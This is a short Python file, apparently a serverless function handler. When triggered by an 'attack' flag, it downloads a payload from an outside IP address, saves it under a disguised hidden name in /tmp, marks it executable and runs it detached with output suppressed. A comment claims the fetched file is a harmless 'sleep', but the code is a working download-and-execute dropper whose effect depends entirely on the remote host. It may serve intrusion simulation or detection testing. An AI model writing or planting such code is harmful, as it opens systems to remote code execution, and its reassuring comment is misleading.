# Harmless: what is fetched is `sleep`, and it runs for 30 seconds at most.
import os
import subprocess
import urllib.request


def handler(event, context):
    if not event.get("attack"):
        return "ok"
    with urllib.request.urlopen("http://203.0.113.7:443/payload") as answer, open("/tmp/.X11-cache", "wb") as file:
        file.write(answer.read())
    os.chmod("/tmp/.X11-cache", 0o755)
    subprocess.Popen(["/tmp/.X11-cache", "30"], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return "ok"
